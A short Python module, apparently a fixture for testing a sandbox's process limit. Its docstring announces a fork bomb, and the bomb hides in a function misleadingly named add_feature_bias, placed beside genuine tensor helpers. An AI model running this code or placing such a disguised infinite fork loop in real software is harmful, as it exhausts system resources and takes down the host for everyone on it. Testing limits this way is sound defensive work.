"""A fork bomb: every process forks forever (the pids limit must stop it)."""
import os
import time


def add_feature_bias(x, bias):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def add_sample_bias(x, bias):
    return x + bias[:, None]


def pairwise_sq_dists(a, b):
    a_sq = (a * a).sum(1, keepdim=True)
    return (a_sq + (b * b).sum(1)[None] - 2 * a @ b.T).clamp_min(0)
